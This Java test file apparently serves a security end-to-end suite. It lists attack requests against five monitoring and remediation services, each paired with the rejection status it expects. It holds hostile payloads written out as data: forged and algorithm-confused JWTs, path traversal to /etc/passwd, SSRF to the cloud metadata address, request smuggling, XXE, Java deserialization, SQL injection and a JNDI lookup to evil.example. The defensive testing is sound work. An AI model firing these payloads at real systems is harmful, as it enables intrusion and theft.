package io.vigia.e2e.doors;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.security.GeneralSecurityException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

/** The attack list: what an attacker tries at the doors of the five services. */
final class Tries {

  private static final String ALERTS = "/api/v2/alerts";
  private static final String ONE = "[{\"labels\":{\"alertname\":\"Attack\"}}]";
  private static final List<String> SERVICES =
      List.of("ROUTER", "WATCHER", "AGENT", "ANOMALY", "REMEDIATION");

  private Tries() {}

  static List<Try> all(Forgery forgery) throws GeneralSecurityException {
    var all = new ArrayList<Try>();
    all.addAll(credentials());
    all.addAll(tokens(forgery));
    all.addAll(roles());
    all.addAll(tenants());
    all.addAll(paths());
    all.addAll(headers());
    all.addAll(sizes());
    all.addAll(json());
    all.addAll(crossSite());
    all.addAll(injections());
    return all;
  }

  private static List<Try> credentials() {
    var tries = new ArrayList<Try>();
    for (String service : SERVICES) {
      String path = door(service);
      tries.add(Try.get("no credentials", service, "", path, 401));
      tries.add(Try.get("a wrong key", service, "", path, 401).with("X-API-Key: vk_wrong"));
    }
    tries.add(Try.get("metrics without credentials", "WATCHER", "", "/q/metrics", 401));
    tries.add(Try.get("API document without credentials", "ROUTER", "", "/q/openapi", 401));
    tries.add(
        Try.get(
            "the key in the address",
            "ROUTER",
            "",
            ALERTS + "?key=KEY_OF_ADMIN&api_key=KEY_OF_ADMIN&access_token=KEY_OF_ADMIN",
            401));
    tries.add(Try.get("an empty bearer", "ROUTER", "", ALERTS, 401).with("Authorization: Bearer "));
    tries.add(
        Try.get("basic without a colon", "ROUTER", "", ALERTS, 401)
            .with("Authorization: Basic YWRtaW4="));
    tries.add(
        Try.get("basic that is no base64", "ROUTER", "", ALERTS, 401)
            .with("Authorization: Basic %%%"));
    tries.add(
        Try.get("two keys that disagree", "ROUTER", "VIEWER", ALERTS, 401)
            .with("Authorization: Bearer vk_wrong"));
    tries.add(Try.get("the key's hash as the key", "ROUTER", "ADMIN_HASH", ALERTS, 401));
    tries.add(
        Try.get("a very long key", "ROUTER", "", ALERTS, 401, 431)
            .with("X-API-Key: " + "k".repeat(12_000)));
    return tries;
  }

  private static List<Try> tokens(Forgery forgery) throws GeneralSecurityException {
    Instant now = Instant.now();
    String good = Forgery.claims("remediation-webhook", "admin", now, 60);
    return List.of(
        bearer("a token without signature", forgery.unsigned(good)),
        bearer("a token signed with the public key as secret", forgery.confused(good)),
        bearer("a token signed by another key", forgery.byAnotherKey(good)),
        bearer(
            "a token for another service",
            forgery.signed(Forgery.claims("anomaly-service", "admin", now, 60))),
        bearer(
            "a token that has expired",
            forgery.signed(
                Forgery.claims("remediation-webhook", "admin", now.minusSeconds(120), 60))),
        bearer(
            "a token from the future",
            forgery.signed(
                Forgery.claims("remediation-webhook", "admin", now.plusSeconds(600), 60))),
        bearer(
            "a token that would live for a year",
            forgery.signed(Forgery.claims("remediation-webhook", "admin", now, 31_536_000))),
        bearer(
            "a token with an unknown role",
            forgery.signed(Forgery.claims("remediation-webhook", "root", now, 60))),
        bearer(
            "a token without tenant", forgery.signed(good.replace("\"tenant\":\"default\",", ""))),
        bearer(
            "a viewer's token made an admin's",
            forgery.tampered(Forgery.claims("remediation-webhook", "viewer", now, 60), good)),
        bearer("three dots", "..."),
        Try.get("a service's token at the router", "ROUTER", "", ALERTS, 401)
            .with("Authorization: Bearer " + forgery.signed(good)));
  }

  private static Try bearer(String what, String token) {
    return Try.get(what, "REMEDIATION", "", "/api/v1/runbooks", 401)
        .with("Authorization: Bearer " + token);
  }

  private static List<Try> roles() {
    return List.of(
        Try.post("a viewer posts an alert", "ROUTER", "VIEWER", ALERTS, ONE, 403),
        Try.post("a viewer reloads", "ROUTER", "VIEWER", "/-/reload", "", 403),
        Try.post("an operator reloads", "ROUTER", "OTHER", "/-/reload", "", 403),
        Try.post("a viewer sends a webhook", "REMEDIATION", "VIEWER", "/webhook", "{}", 403),
        Try.post(
            "a viewer stops all repairs",
            "REMEDIATION",
            "VIEWER",
            "/api/v1/kill-switch",
            "{\"on\":true,\"reason\":\"x\"}",
            403),
        Try.post(
            "a viewer retries",
            "REMEDIATION",
            "VIEWER",
            "/api/v1/executions/" + UUID.randomUUID() + "/retry",
            "",
            403),
        Try.post(
            "a viewer through the gateway",
            "ROUTER",
            "VIEWER",
            "/services/remediation/api/v1/kill-switch",
            "{\"on\":true,\"reason\":\"x\"}",
            403),
        Try.post("a method in a header", "ROUTER", "VIEWER", "/-/reload", "", 403)
            .with("X-HTTP-Method-Override: GET"));
  }

  private static List<Try> tenants() {
    return List.of(
        Try.get("another tenant's agent", "AGENT", "OTHER", "/api/v1/services", 403),
        Try.get("another tenant's cycles", "AGENT", "OTHER", "/api/v1/cycles", 403),
        Try.get(
            "another tenant's execution",
            "REMEDIATION",
            "OTHER",
            "/api/v1/executions/EXECUTION",
            404),
        Try.post(
            "retry of another tenant's execution",
            "REMEDIATION",
            "OTHER",
            "/api/v1/executions/EXECUTION/retry",
            "",
            404),
        Try.get(
            "another tenant's execution through the gateway",
            "ROUTER",
            "OTHER",
            "/services/remediation/api/v1/executions/EXECUTION",
            404),
        Try.post(
            "an alert for another tenant",
            "ROUTER",
            "OTHER",
            ALERTS,
            "[{\"tenant\":\"default\",\"labels\":{\"alertname\":\"Attack\"}}]",
            400),
        Try.get("another tenant's agent, by a header", "AGENT", "OTHER", "/api/v1/services", 403)
            .with("X-Tenant: default", "X-Scope-OrgID: default"));
  }

  private static List<Try> paths() {
    var tries = new ArrayList<Try>();
    for (String path :
        List.of(
            "/../../../../etc/passwd",
            "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/..%2f..%2f..%2fetc/passwd",
            "/..\\..\\etc\\passwd",
            "/q/swagger-ui/../../../../etc/passwd",
            "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "/.%00./etc/passwd",
            "/META-INF/MANIFEST.MF",
            "/application.properties",
            "//etc/passwd")) {
      tries.add(Try.get("path " + path, "ROUTER", "ADMIN", path, 400, 404));
    }
    for (String path :
        List.of(
            "/services/remediation/../../q/health",
            "/services/remediation/%2e%2e/q/health",
            "/services/remediation/..%2fq%2fhealth",
            "/services/remediation/%252e%252e/q/health",
            "/services/remediation//evil.example/",
            "/services/http:%2f%2f169.254.169.254/",
            "/services/elsewhere/api/v1/runbooks")) {
      tries.add(Try.get("gateway path " + path, "ROUTER", "ADMIN", path, 400, 404));
    }
    return tries;
  }

  private static List<Try> headers() {
    String post = "POST " + ALERTS + " HTTP/1.1";
    return List.of(
        Try.line("two lengths", "ROUTER", "ADMIN", post, 400, 0)
            .with("Content-Length: 2", "Content-Length: 40")
            .withBody("[]GET /q/metrics HTTP/1.1\r\n\r\n"),
        Try.line(
                "length and chunks through the gateway",
                "ROUTER",
                "ADMIN",
                "POST /services/remediation/webhook HTTP/1.1",
                400,
                0)
            .with(
                "Content-Length: 4", "Transfer-Encoding: chunked", "Content-Type: application/json")
            .withBody("2\r\n[]\r\n0\r\n\r\nGET /q/metrics HTTP/1.1\r\nHost: x\r\n\r\n"),
        Try.line("a blank before the colon", "ROUTER", "ADMIN", post, 400, 0)
            .with("Transfer-Encoding : chunked", "Content-Type: application/json")
            .withBody("2\r\n[]\r\n0\r\n\r\n"),
        Try.line("chunked that is not", "ROUTER", "ADMIN", post, 400, 501, 0)
            .with("Transfer-Encoding: xchunked", "Content-Type: application/json")
            .withBody("2\r\n[]\r\n0\r\n\r\n"),
        Try.line("a chunk of nonsense length", "ROUTER", "ADMIN", post, 400, 0)
            .with("Transfer-Encoding: chunked", "Content-Type: application/json")
            .withBody("ZZ\r\n[]\r\n0\r\n\r\n"),
        Try.line("a length below nothing", "ROUTER", "ADMIN", post, 400, 0)
            .with("Content-Length: -1", "Content-Type: application/json"),
        Try.get("headers of 64 KB", "ROUTER", "ADMIN", ALERTS, 431, 400, 0)
            .with("X-Big: " + "x".repeat(65_536)),
        Try.get("an address of 64 KB", "ROUTER", "ADMIN", "/" + "x".repeat(65_536), 414, 400, 0),
        Try.line(
            "another host as the target",
            "ROUTER",
            "ADMIN",
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1",
            400,
            404),
        Try.line("CONNECT", "ROUTER", "ADMIN", "CONNECT 127.0.0.1:22 HTTP/1.1", 400, 404, 405, 501),
        Try.line("TRACE", "ROUTER", "ADMIN", "TRACE / HTTP/1.1", 400, 404, 405, 501),
        Try.line("no HTTP at all", "ROUTER", "", "\u0016\u0003\u0001\u0002", 400, 0),
        Try.line(
            "a line break in the path",
            "ROUTER",
            "ADMIN",
            "GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1",
            400,
            404));
  }

  private static List<Try> sizes() {
    return List.of(
        Try.line("50 MB announced", "ROUTER", "ADMIN", "POST " + ALERTS + " HTTP/1.1", 413)
            .with("Content-Length: 52428800", "Content-Type: application/json"),
        Try.post("11 MB", "REMEDIATION", "ADMIN", "/webhook", " ".repeat(11 << 20), 413, 0),
        Try.post(
            "1,001 alerts",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "["
                + "{\"labels\":{\"alertname\":\"Attack\"}},".repeat(1000)
                + "{\"labels\":{\"alertname\":\"Attack\"}}]",
            413),
        Try.post(
            "a label of 5,000 characters",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"labels\":{\"alertname\":\"" + "x".repeat(5000) + "\"}}]",
            400),
        Try.post(
            "annotations of 70,000 characters",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"labels\":{\"alertname\":\"Attack\"},\"annotations\":{\"a\":\""
                + "x".repeat(70_000)
                + "\"}}]",
            400),
        Try.get("a million rows", "ROUTER", "ADMIN", "/api/v1/deliveries?limit=1000000", 400),
        Try.get("less than no rows", "WATCHER", "ADMIN", "/api/v1/runs?limit=-1", 400));
  }

  private static List<Try> json() {
    return List.of(
        Try.post(
            "5,000 brackets", "ROUTER", "ADMIN", ALERTS, "[".repeat(5000) + "]".repeat(5000), 400),
        Try.post(
            "5,000 braces",
            "REMEDIATION",
            "ADMIN",
            "/webhook",
            "{\"version\":\"4\",\"ignored\":" + "{\"a\":".repeat(5000) + "1" + "}".repeat(5001),
            400),
        Try.post(
            "a number of 5,000 digits",
            "REMEDIATION",
            "ADMIN",
            "/webhook",
            "{\"version\":" + "9".repeat(5000) + "}",
            400),
        Try.post(
            "a key twice",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"labels\":{\"alertname\":\"a\"},\"labels\":{\"alertname\":\"b\"}}]",
            400),
        Try.post(
            "an unknown field",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"labels\":{\"alertname\":\"a\"},\"admin\":true}]",
            400),
        Try.post(
            "__proto__",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"__proto__\":{\"role\":\"admin\"},\"labels\":{\"a\":\"b\"}}]",
            400),
        Try.post(
            "a Java class to be made",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"@class\":\"java.lang.ProcessBuilder\",\"labels\":{\"a\":\"b\"}}]",
            400),
        Try.post(
            "a NUL character",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "[{\"labels\":{\"alertname\":\"a\\u0000b\"}}]",
            400),
        Try.post(
            "bytes that are no UTF-8",
            "ROUTER",
            "ADMIN",
            ALERTS,
            new byte[] {'[', '{', '"', (byte) 0xc3, (byte) 0x28, '"', ':', '1', '}', ']'},
            400),
        Try.post("an object for a list", "ROUTER", "ADMIN", ALERTS, "{\"labels\":{}}", 400),
        Try.post("half a text", "ROUTER", "ADMIN", ALERTS, "[{\"labels\":{\"alertname\":", 400),
        Try.post("nothing", "ROUTER", "ADMIN", ALERTS, "", 400),
        Try.post(
            "XML",
            "ROUTER",
            "ADMIN",
            ALERTS,
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            400));
  }

  private static List<Try> crossSite() {
    return List.of(
        Try.post("a form of another site", "ROUTER", "ADMIN", "/-/reload", "", 403)
            .with("Sec-Fetch-Site: cross-site", "Origin: https://evil.example"),
        Try.post(
                "a page of a neighbouring host",
                "REMEDIATION",
                "ADMIN",
                "/api/v1/kill-switch",
                "{\"on\":true,\"reason\":\"x\"}",
                403)
            .with("Sec-Fetch-Site: same-site"),
        Try.post(
                "another site through the gateway",
                "ROUTER",
                "ADMIN",
                "/services/remediation/api/v1/kill-switch",
                "{\"on\":true,\"reason\":\"x\"}",
                403)
            .with("Sec-Fetch-Site: cross-site"),
        Try.line("a form that is no JSON", "ROUTER", "ADMIN", "POST " + ALERTS + " HTTP/1.1", 415)
            .with("Content-Type: text/plain", "Content-Length: " + ONE.length())
            .withBody(ONE));
  }

  private static List<Try> injections() {
    return List.of(
        Try.get(
            "SQL in an id", "REMEDIATION", "ADMIN", "/api/v1/executions/'%20or%20'1'='1", 400, 404),
        Try.get(
            "SQL in a number",
            "ROUTER",
            "ADMIN",
            "/api/v1/deliveries?limit=1%3Bdrop%20table%20alert",
            400),
        Try.get("a template in a path", "ROUTER", "ADMIN", "/%7B%7B7*7%7D%7D", 404),
        Try.get(
            "JNDI in a path", "ROUTER", "ADMIN", "/$%7Bjndi:ldap:%2f%2fevil.example%7D", 400, 404));
  }

  /** A path behind which every service keeps something. */
  private static String door(String service) {
    return switch (service) {
      case "ROUTER" -> ALERTS;
      case "WATCHER" -> "/api/v1/watchers";
      case "AGENT" -> "/api/v1/services";
      case "ANOMALY" -> "/api/v1/series";
      default -> "/api/v1/runbooks";
    };
  }

  static byte[] bytes(Try attempt, String key, String execution, String admin) {
    var text =
        new StringBuilder(
                attempt
                    .requestLine()
                    .replace("EXECUTION", execution)
                    .replace("KEY_OF_ADMIN", admin))
            .append("\r\n");
    text.append("Host: localhost\r\nConnection: close\r\n");
    if (!key.isEmpty()) {
      text.append("X-API-Key: ").append(key).append("\r\n");
    }
    attempt.headers().forEach(header -> text.append(header).append("\r\n"));
    byte[] head = text.append("\r\n").toString().getBytes(UTF_8);
    byte[] all = new byte[head.length + attempt.body().length];
    System.arraycopy(head, 0, all, 0, head.length);
    System.arraycopy(attempt.body(), 0, all, head.length, attempt.body().length);
    return all;
  }
}
